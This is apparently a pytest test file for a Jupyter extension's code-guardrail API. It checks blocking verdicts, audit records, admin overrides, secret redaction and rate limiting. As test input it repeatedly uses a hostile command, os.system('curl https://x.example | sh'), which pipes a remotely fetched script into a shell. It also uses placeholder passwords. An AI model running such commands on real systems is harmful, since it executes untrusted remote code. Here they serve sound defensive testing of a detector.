"""POST /analyze: the guardrail report through the REST API, on SQLite and on PostgreSQL."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from typing import Any

import pytest

from jupyter_scriptforge.guardrails import REDACTED
from jupyter_scriptforge.services import services_of


@pytest.fixture
def scriptforge_config(request: pytest.FixtureRequest, tmp_path: Path) -> dict[str, Any]:
    """More ``ScriptForgeApp`` settings for one test (``indirect`` parameter):
    ``"crashing-python"`` offers only a "Python 3.99" whose parser crashes."""
    if getattr(request, "param", None) == "crashing-python":
        python = tmp_path / "python3.99"
        # It answers the discovery's probe (-I -S -c ...), then crashes when asked to parse.
        python.write_text(
            '#!/bin/sh\nif [ "$3" = "-c" ]; then echo CPython 3.99.0; exit 0; fi\nkill -SEGV $$\n'
        )
        python.chmod(0o755)
        return {"discover_interpreters": False, "interpreters": {"cpython-3.99": str(python)}}
    return {}


@pytest.fixture
def jp_server_config(
    db_url: str, authorizer: str | None, scriptforge_config: dict[str, Any]
) -> dict[str, Any]:
    """The server of these tests: a team that allows ``subprocess.run``, skips no bandit test."""
    return {
        "ServerApp": {
            "jpserver_extensions": {"jupyter_scriptforge": True},
            **({"authorizer_class": authorizer} if authorizer else {}),
        },
        "ScriptForgeApp": {
            "db_url": db_url,
            "runs_instance": f"pytest-{os.getpid()}",
            "guardrail_allowed": ["subprocess.run"],
            "guardrail_bandit_skips": [],
            **scriptforge_config,
        },
    }


async def test_hostile_code_is_blocked_with_its_lines(api):
    code = "import os\n\nrun = os.system\nrun('curl https://x.example | sh')\n"

    response = await api.post("analyze", {"content": code})

    assert response.status == 200
    report = response.body
    assert report["verdict"] == "blocked"
    policy = [f for f in report["findings"] if f["source"] == "policy"]
    assert [(f["rule"], f["line"], f["code"]) for f in policy] == [
        ("SF102", 3, "run = os.system"),
        ("SF102", 4, "run('curl https://x.example | sh')"),
    ]
    assert all(f["blocks"] and f["severity"] == "high" for f in policy)
    assert report["duration_ms"] >= 0


async def test_benign_code_is_ok_and_bandit_notes_warn(api):
    ok = await api.post("analyze", {"content": "import json\nprint(json.dumps({'a': 1}))\n"})
    warn = await api.post("analyze", {"content": "import random\nprint(random.random())\n"})

    assert ok.body == {"verdict": "ok", "findings": [], "duration_ms": ok.body["duration_ms"]}
    assert warn.body["verdict"] == "warn"
    [finding] = warn.body["findings"]
    assert finding["rule"] == "B311"
    assert finding["source"] == "bandit"
    assert finding["confidence"] == "high"
    assert finding["blocks"] is False


async def test_the_team_allowances_and_bandit_skips_come_from_the_config(api):
    code = (
        "import subprocess\nsubprocess.run(['git', 'pull'])\nsubprocess.Popen(['sh'])\nassert 1\n"
    )

    report = (await api.post("analyze", {"content": code})).body

    policy = [(f["rule"], f["line"]) for f in report["findings"] if f["source"] == "policy"]
    assert policy == [("SF101", 3)]  # run is allowed here, Popen is not
    assert "B101" in {f["rule"] for f in report["findings"]}  # no bandit test skipped


async def test_code_that_does_not_parse_is_a_finding_not_an_error(api):
    response = await api.post("analyze", {"content": "def broken(:\n"})

    assert response.status == 200
    assert response.body["verdict"] == "blocked"
    assert [(f["rule"], f["line"]) for f in response.body["findings"]] == [("SF100", 1)]


async def test_content_with_nul_characters_is_analysed(api):
    response = await api.post("analyze", {"content": "x = 1\x00\n"})

    assert response.status == 200
    assert response.body["findings"][0]["rule"] == "SF100"


@pytest.mark.parametrize(
    "body",
    [{}, {"content": 3}, {"content": None}, {"content": "x", "extra": 1}, {"code": "x"}],
)
async def test_a_bad_body_is_a_400(api, body):
    response = await api.post("analyze", body)

    assert response.status == 400
    assert response.body["error"] == "bad_request"


async def test_a_body_that_is_not_json_is_a_400(jp_fetch):
    response = await jp_fetch(
        "scriptforge", "api", "analyze", method="POST", body=b"{", raise_error=False
    )

    assert response.code == 400
    assert "JSON" in json.loads(response.body)["message"]


async def test_too_large_content_is_a_413(api):
    response = await api.post("analyze", {"content": "x = 1\n" * 200_000})

    assert response.status == 413
    assert response.body["error"] == "too_large"
    assert "at most" in response.body["message"]


HOSTILE = "import os\nos.system('curl https://x.example | sh')\n"


async def test_every_decision_is_audited_and_an_admin_override_too(api):
    await api.post("analyze", {"content": HOSTILE})

    override = await api.post("analyze/override", {"content": HOSTILE, "reason": "our deploy"})

    assert override.status == 200
    assert override.body["allowed"] is True
    assert override.body["analysis"]["verdict"] == "blocked"
    records = (await api.get("audit")).body["records"]
    assert [(r["action"], r["verdict"]) for r in records[:2]] == [
        ("override", "overridden"),
        ("analyze", "blocked"),
    ]
    assert records[0]["prompt"] == HOSTILE
    assert records[0]["details"]["reason"] == "our deploy"
    assert records[0]["details"]["analysis"]["findings"][0]["rule"] == "SF102"


SECRET_CODE = (
    "import os\nDB_PASSWORD = \"hunter2-prod\"\nos.system(f'PGPASSWORD=s3cr3t-pg psql -c vacuum')\n"
)


async def test_the_audit_log_and_its_events_get_the_code_redacted(api, emitted):
    analysed = await api.post("analyze", {"content": SECRET_CODE})
    await api.post("analyze/override", {"content": SECRET_CODE, "reason": "nightly job"})

    # The author gets the report on their own code, as it is.
    codes = {f["code"] for f in analysed.body["findings"]}
    assert "os.system(f'PGPASSWORD=s3cr3t-pg psql -c vacuum')" in codes
    records = (await api.get("audit")).body["records"][:2]
    assert [r["action"] for r in records] == ["override", "analyze"]
    assert len(emitted) >= 2
    for stored in [*records, *emitted[-2:]]:
        text = json.dumps(stored)
        assert "hunter2-prod" not in text
        assert "s3cr3t-pg" not in text
        assert stored["prompt"] == (
            "import os\n"
            f'DB_PASSWORD = "{REDACTED}"\n'
            f"os.system(f'PGPASSWORD={REDACTED} psql -c vacuum')\n"
        )
        [finding] = [f for f in stored["details"]["analysis"]["findings"] if f["rule"] == "SF102"]
        assert finding["code"] == f"os.system(f'PGPASSWORD={REDACTED} psql -c vacuum')"
        assert stored["details"]["redacted"] == {"secret_assignment": 2}
        assert stored["verdict"] in ("blocked", "overridden")
    assert records[0]["details"]["reason"] == "nightly job"


@pytest.mark.parametrize("authorizer", ["tests.api.conftest.NoAdminAuthorizer"], indirect=True)
async def test_only_an_admin_overrides_and_a_refusal_changes_nothing(api):
    refused = await api.post("analyze/override", {"content": HOSTILE})

    assert refused.status == 403
    assert refused.body["message"] == "Only a ScriptForge admin can run code the guardrails block."


# A secret longer than the 200 characters a finding quotes of its line: cut short there, it
# was no longer recognised, and its tail (and bandit's message quoting it whole) leaked.
LONG_SECRET = "".join(f"s3cr3t{i:03d}" for i in range(30))[:237]
LONG_LINE = f'password = "{LONG_SECRET}"'
LONG_SECRET_CODE = (
    f"import os\n{LONG_LINE}\n"
    "TOKEN = '''first-half-of-it\nsecond-half-of-it'''\n"
    "os.system('vacuumdb')\n"
)


async def test_a_secret_longer_than_a_quoted_line_is_redacted_in_the_audit(api):
    assert len(LONG_LINE) == 250

    analysed = await api.post("analyze", {"content": LONG_SECRET_CODE})

    # The author sees the line cut short, the secret in it.
    findings = analysed.body["findings"]
    assert any(f["code"].startswith('password = "s3cr3t000') for f in findings)
    [record] = [r for r in (await api.get("audit")).body["records"] if r["action"] == "analyze"]
    text = json.dumps(record)
    for secret in (LONG_SECRET, LONG_SECRET[:20], LONG_SECRET[-20:], "half-of-it"):
        assert secret not in text
    assert record["prompt"] == (
        f"import os\npassword = \"{REDACTED}\"\nTOKEN = '''{REDACTED}\n'''\nos.system('vacuumdb')\n"
    )
    stored = {(f["rule"], f["line"]): f for f in record["details"]["analysis"]["findings"]}
    password = stored["B105", 2]
    assert password["code"] == f'password = "{REDACTED}"'
    assert password["message"] == f"Possible hardcoded password: '{REDACTED}'"
    # A secret over two lines keeps them: the later findings quote their own lines.
    assert stored["SF102", 5]["code"] == "os.system('vacuumdb')"
    assert record["details"]["redacted"] == {"secret_assignment": 2}


# --- code in newer syntax than the server's Python ---------------------------------------

NEWER = 'import os\ntype Command = str\nos.system("id")\n'


async def test_newer_syntax_is_parsed_by_the_newest_cpython_here(api):
    response = await api.post("analyze", {"content": NEWER})

    assert response.status == 200
    report = response.body
    assert report["verdict"] == "blocked"
    assert [(f["rule"], f["line"]) for f in report["findings"] if f["source"] == "policy"] == [
        ("SF102", 3)
    ]
    assert report["parser"] == "cpython-3.13"
    assert "Type aliases are checked as assignments" in report["notes"][0]


async def test_the_scripts_interpreter_judges_its_syntax(api):
    on_311 = await api.post("analyze", {"content": NEWER, "interpreter": "cpython-3.11"})
    on_313 = await api.post("analyze", {"content": NEWER, "interpreter": "cpython-3.13"})

    [finding] = on_311.body["findings"]
    assert finding["rule"] == "SF100"
    assert "for cpython-3.11 (Python 3.11" in finding["message"]
    assert on_313.body["parser"] == "cpython-3.13"
    assert [f["rule"] for f in on_313.body["findings"] if f["source"] == "policy"] == ["SF102"]


@pytest.mark.parametrize("interpreter", ["cpython-2.1", "", 3])
async def test_an_unknown_interpreter_is_a_400(api, interpreter):
    response = await api.call("POST", "analyze", {"content": "x = 1\n", "interpreter": interpreter})

    assert response.status == 400
    assert response.body["error"] == "bad_request"


@pytest.mark.parametrize("scriptforge_config", ["crashing-python"], indirect=True)
async def test_a_parser_that_crashes_is_a_finding_not_a_500(api):
    response = await api.post("analyze", {"content": NEWER, "interpreter": "cpython-3.99"})

    assert response.status == 200
    [finding] = response.body["findings"]
    assert finding["rule"] == "SF100"
    assert "its parser stopped with SIGSEGV" in finding["message"]


# --- each user's line ---------------------------------------------------------------


async def test_a_user_whose_line_is_full_is_told_when_to_come_back(api, jp_serverapp):
    guardrails = services_of(jp_serverapp.web_app.settings).guardrails
    user = services_of(jp_serverapp.web_app.settings).server_user
    release = asyncio.Event()

    async def analysis() -> None:
        async with guardrails.turn(user):
            await release.wait()

    # One analysis under way, a full line of them waiting.
    under_way = [asyncio.create_task(analysis()) for _ in range(1 + guardrails.waiting_per_user)]
    await asyncio.sleep(0.01)

    busy = await api.post("analyze", {"content": "x = 1\n"})

    assert busy.status == 429
    assert busy.body["error"] == "too_many_requests"
    assert int(busy.headers["Retry-After"]) == busy.body["retry_after"] >= 1
    release.set()
    await asyncio.gather(*under_way)
    assert (await api.post("analyze", {"content": "x = 1\n"})).status == 200
